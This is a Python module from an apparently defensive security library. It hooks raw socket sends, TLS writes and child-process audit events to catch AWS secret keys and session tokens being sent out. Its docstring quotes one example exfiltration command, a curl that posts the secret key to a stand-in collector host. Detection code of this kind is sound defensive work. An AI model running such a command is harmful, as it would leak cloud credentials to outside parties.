"""The function's credentials leaving below the HTTP clients: raw socket sends and child command lines.

The HTTP layer (``sinks.network``) judges what http.client and urllib3 send, whole. Everything
else that talks to the network ends in a socket's ``send`` family: httpcore (httpx), asyncio
transports (aiohttp, ``asyncio.open_connection``), SMTP, raw sockets; and a child process
(``curl -d "$AWS_SECRET_ACCESS_KEY" https://collector``) sends what its command line holds.

- ``socket.socket.send``/``sendall``/``sendto``/``sendmsg``, ``ssl.SSLSocket.send``/``sendall`` (the
  plaintext, before encryption) and ``ssl.SSLObject.write`` (asyncio's TLS): the bytes are looked
  at with C substring searches only (``credential_exfiltration.may_hold``: 18 needles for the
  secret key and the session token, every recognised encoding and each half); only a hit builds a
  payload for the detector, which judges it as a request to the peer (the Secrets extension at
  loopback:2773 keeps its token header; SigV4's ``X-Amz-Security-Token`` its token). A TLS
  connection to an AWS endpoint (its ``server_hostname``) is not looked at. Each socket keeps the
  last bytes it sent (as many as the longest form of a credential), and the seam between them and
  the next send is searched too, so a credential written a few bytes at a time is found as its
  last piece leaves. What http.client's hooks judged already (a thread inside their ``request`` or
  ``send``) is not searched twice.
- Child processes, by the audit events every way of starting one raises before it starts
  (``subprocess.Popen``, ``os.system``, ``os.exec``, ``os.posix_spawn``, ``os.spawn``): the command line,
  with the variables a shell would expand (``$NAME``, ``${NAME}``) read from the child's environment,
  is searched for the credentials (rule ``credential_exfiltration.child``). A child that inherits
  them in its environment, under their own names, is how the AWS CLI gets them: not judged.
  No edit of ``sinks.shell``: the audit hook sees the call whatever wrapper it went through.
  An audit hook cannot be removed; it tests the event name first, with one set lookup, and does
  nothing outside an invocation: +0.17-0.24 µs on every other audit event of the process (``sys.audit``
  of an unrelated name with one hook installed before, timeit, min of 25 runs on a loaded 2-core machine).

Cost (``python -m bench.sends``, 2 shared cores, a 40-character secret key and a 1,000-character
token): a benign ``sendall`` inside an invocation +7.4 µs for 1 KB (1.3 µs unprotected), +122 µs
for 64 KB (4.6 µs unprotected: a socket pair; to a real peer a send costs more, the check the
same), +0.25 µs outside one. Nearly all of it is the 14 substring searches, about 0.4 µs per KB
each whatever the text (JSON, or random letters and digits, the needles' own alphabet): some
1.9 µs per KB sent. What http.client and urllib3 send (requests, boto3 over plain HTTP) is not
searched here a second time, and TLS to an AWS endpoint (boto3) not at all. Base32 (two needles a
credential, its first alignment in both cases) took the 64 KB send from +139 to +155 µs; its other
alignments (a credential inside a larger base32 text) would have doubled it and are left to the
HTTP layer, which judges whole payloads.
"""
from __future__ import annotations

import os
import re
from functools import cache
from threading import get_ident
from weakref import ref

from ..context import current
from ..findings import AttackKind
from ..guard import active, failsafe, inspect
from .audit import AuditEvents
from .base import Instrumentor

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable
    from typing import Any

    from ..context import RequestContext

KIND = AttackKind.CREDENTIAL_EXFILTRATION
_MAX_REMEMBERED = 256
_BYTES = (bytes, bytearray)
_SMALL = 8192  # bytes of payload searched together with the seam before it
_CONTEXT = 64  # bytes kept before a credential's longest form: the header name that makes its place legitimate


@cache
def _credentials() -> Any:
    from ..detectors import credential_exfiltration

    return credential_exfiltration


def _state(context: RequestContext) -> Any:
    state = context.network
    if state is None:
        from .network import _state as network_state

        state = network_state(context)
    return state


def _flat(data: Any) -> bytes | bytearray | None:
    if isinstance(data, _BYTES):
        return data
    if isinstance(data, memoryview):
        return data.tobytes()
    return None


def _layered(context: RequestContext) -> bool:
    """A thread inside a send that a layer above judged whole (http.client's request, an SSL sendall)."""
    state = context.network
    return state is not None and bool(state.layered) and get_ident() in state.layered


@failsafe(KIND)
def _check_send(context: RequestContext, sink: str, sock: Any, data: Any, host: str | None, port: Any) -> None:
    """Judge ``data`` about to leave through ``sock`` (to ``host``:``port`` when the caller knows them).

    The socket keeps the end of what it sent (``_kept``): a form that a needle of ``may_hold``
    crosses the seam of is found by searching the few bytes around the seam; a needle already seen
    in the kept end (a form that may complete in this send) makes the next sends judged whole with it.
    """
    if _layered(context) or not active(context, KIND):
        return
    payload = _flat(data)
    if not payload:
        return
    credentials = _credentials()
    if host is not None and credentials.is_aws_endpoint(host):
        return
    known = credentials.raw_needles()
    if known is None:
        return
    needles, longest = known
    keep = longest + _CONTEXT
    state = _state(context)
    key = id(sock)
    kept = state.sent_tails.get(key) if state.sent_tails else None
    if kept is not None and kept[0]() is not sock:
        kept = None  # a closed socket's heir to its id
    tail: bytes = kept[1] if kept is not None else b""
    seam = credentials.MAX_NEEDLE - 1
    # The seam with what the socket sent before is searched with the payload when it is small (one
    # search per needle), apart from it when it is large (no copy of the payload).
    searched = tail[-seam:] + payload if len(payload) <= _SMALL else payload
    if (kept is not None and kept[2]) or any(map(searched.__contains__, needles)) or (
            payload[:2] == b"\x1f\x8b" or (payload[:1] == b"x" and credentials.may_hold(payload))) or (
            searched is payload and tail and any(map((tail[-seam:] + payload[:seam]).__contains__, needles))):
        if host is None or port is None:
            host, port = _peer(sock, host, port)
        sent = tail + bytes(payload)
        found = credentials.Payload(((f"request to {host}", sent),), True, host, port, True)
        if inspect(KIND, sink, found, argument=f"{len(payload)} bytes to {host}:{port}", uses_inputs=False,
                   context=context) is not None:
            state.sent_tails.pop(key, None)  # reported: the next send starts afresh
            return
        end = sent[-keep:]
        pending = credentials.may_hold(end, compressed=False)
    else:
        end = bytes(payload[-keep:]) if len(payload) >= keep else tail[len(tail) + len(payload) - keep:] + payload
        pending = False
    if kept is not None or len(state.sent_tails) < _MAX_REMEMBERED:
        state.sent_tails[key] = (kept[0] if kept is not None else ref(sock), end, pending)


def _peer(sock: Any, host: str | None, port: Any) -> tuple[str, Any]:
    try:
        address = sock.getpeername()
    except (OSError, AttributeError):
        return host or "an unconnected socket", port
    if isinstance(address, tuple) and len(address) >= 2:
        return host or str(address[0]), address[1]
    return host or str(address), port


def _address_of(address: Any) -> tuple[str | None, Any]:
    if isinstance(address, tuple) and len(address) >= 2:
        return str(address[0]), address[1]
    return None, None


class RawSends(Instrumentor):
    """A plain socket's ``send`` family; TLS sockets override them (``TLSSends``)."""

    module = "socket"

    def patch(self, module: Any) -> None:
        cls = module.socket
        original_send, original_sendall = cls.send, cls.sendall
        original_sendto, original_sendmsg = cls.sendto, cls.sendmsg

        def send(self, data, *args):
            context = current()
            if context is not None:
                _check_send(context, "socket.socket.send", self, data, None, None)
            return original_send(self, data, *args)

        def sendall(self, data, *args):
            context = current()
            if context is not None:
                _check_send(context, "socket.socket.sendall", self, data, None, None)
            return original_sendall(self, data, *args)

        def sendto(self, data, *args):
            context = current()
            if context is not None and args:
                _check_send(context, "socket.socket.sendto", self, data, *_address_of(args[-1]))
            return original_sendto(self, data, *args)

        def sendmsg(self, buffers, *args):
            context = current()
            if context is not None:
                buffers = list(buffers)
                joined = b"".join(bytes(buffer) for buffer in buffers)
                host, port = _address_of(args[2]) if len(args) > 2 else (None, None)
                _check_send(context, "socket.socket.sendmsg", self, joined, host, port)
            return original_sendmsg(self, buffers, *args)

        for name, replacement, original in (("send", send, original_send), ("sendall", sendall, original_sendall),
                                            ("sendto", sendto, original_sendto),
                                            ("sendmsg", sendmsg, original_sendmsg)):
            replacement.__doc__ = original.__doc__
            self.replace(cls, name, replacement)


class TLSSends(Instrumentor):
    """The plaintext of TLS: ``SSLSocket`` (blocking clients) and ``SSLObject`` (asyncio), named by their SNI host."""

    module = "ssl"

    def patch(self, module: Any) -> None:
        def send(wrapped, instance, args, kwargs):
            context = current()
            if context is not None and args:
                _check_send(context, "ssl.SSLSocket.send", instance, args[0], instance.server_hostname, None)
            return wrapped(*args, **kwargs)

        def sendall(wrapped, instance, args, kwargs):
            context = current()
            if context is None or not args:
                return wrapped(*args, **kwargs)
            _check_send(context, "ssl.SSLSocket.sendall", instance, args[0], instance.server_hostname, None)
            return layer(context, wrapped, args, kwargs)  # its loop of send() is judged already

        def write(wrapped, instance, args, kwargs):
            context = current()
            if context is not None and args:
                _check_send(context, "ssl.SSLObject.write", instance, args[0], instance.server_hostname, None)
            return wrapped(*args, **kwargs)

        self.wrap(module.SSLSocket, "send", send)
        self.wrap(module.SSLSocket, "sendall", sendall)
        self.wrap(module.SSLObject, "write", write)


def layer(context: RequestContext, call: Any, args: tuple, kwargs: dict) -> Any:
    """Run ``call`` with this thread marked as inside a send judged whole above the socket."""
    layered = _state(context).layered
    ident = get_ident()
    if ident in layered:
        return call(*args, **kwargs)
    layered.add(ident)
    try:
        return call(*args, **kwargs)
    finally:
        layered.discard(ident)


# ---------------------------------------------------------------- child processes

_SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ash", "ksh", "mksh", "busybox"})
_MAX_EXPANSIONS = 256


@cache
def _reference() -> re.Pattern[str]:
    return re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")


def _text(value: Any) -> str:
    if isinstance(value, (bytes, bytearray)):
        return os.fsdecode(bytes(value))
    return os.fspath(value) if isinstance(value, os.PathLike) else str(value)


def _expanded(words: list[str], env: Any, shell: bool) -> str:
    """The command line as the child gets it: for a shell, the variables it expands put in."""
    line = " ".join(words)
    if not shell or "$" not in line:
        return line
    if env is None:
        env = os.environ
    values = []
    for count, match in enumerate(_reference().finditer(line)):
        if count >= _MAX_EXPANSIONS:
            break
        name = match.group(1)
        value = _variable(env, name)
        if value:
            values.append(_text(value))
    return " ".join([line, *values])


def _variable(env: Any, name: str) -> Any:
    """``env[name]``, for an environment of str or of bytes (``subprocess`` takes either)."""
    if env is os.environ or not hasattr(env, "get"):
        return os.environ.get(name) if env is os.environ else None
    try:
        value = env.get(name)
        return env.get(os.fsencode(name)) if value is None else value
    except TypeError:
        return None


def _program(path: Any, words: list[str]) -> str:
    return os.path.basename(_text(path) if path else (words[0] if words else ""))


@failsafe(KIND)
def _check_child(context: RequestContext, sink: str, path: Any, argv: Any, env: Any) -> None:
    if not active(context, KIND) or not _credentials().own_secrets():
        return
    words = [_text(word) for word in ([argv] if isinstance(argv, (str, bytes)) else list(argv or ()))]
    program = _program(path, words)
    shell = sink == "os.system" or program in _SHELLS or (bool(words) and os.path.basename(words[0]) in _SHELLS)
    text = _expanded(words, env, shell)
    inspect(KIND, sink, _credentials().Command(text, program), argument=f"a child process ({program})",
            uses_inputs=False, context=context)


_last_popen: list[tuple[int, int]] = [(0, 0)]
_CHILD_EVENTS = frozenset({"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn"})


def _on_child_event(event: str, args: tuple) -> None:
    context = current()
    if context is None:
        return
    if event == "subprocess.Popen":
        executable, argv, _, env = args
        _last_popen[0] = (get_ident(), id(argv))
        _check_child(context, event, executable, argv, env)
    elif event == "os.system":
        _check_child(context, event, "sh", ["sh", "-c", args[0]], None)
    elif event in ("os.exec", "os.posix_spawn"):
        path, argv, env = args
        if event == "os.posix_spawn" and _last_popen[0] == (get_ident(), id(argv)):
            return  # the spawn of a Popen judged just before
        _check_child(context, event, path, argv, env)
    elif event == "os.spawn":
        _, path, argv, env = args
        _check_child(context, event, path, argv, env)


class ChildCommandLines(AuditEvents):
    """The audit events of the calls that start a process, read while the sinks are instrumented."""

    def handlers(self) -> dict[str, Callable[[str, tuple], None]]:
        return dict.fromkeys(_CHILD_EVENTS, _on_child_event)


INSTRUMENTORS = [RawSends, TLSSends, ChildCommandLines]
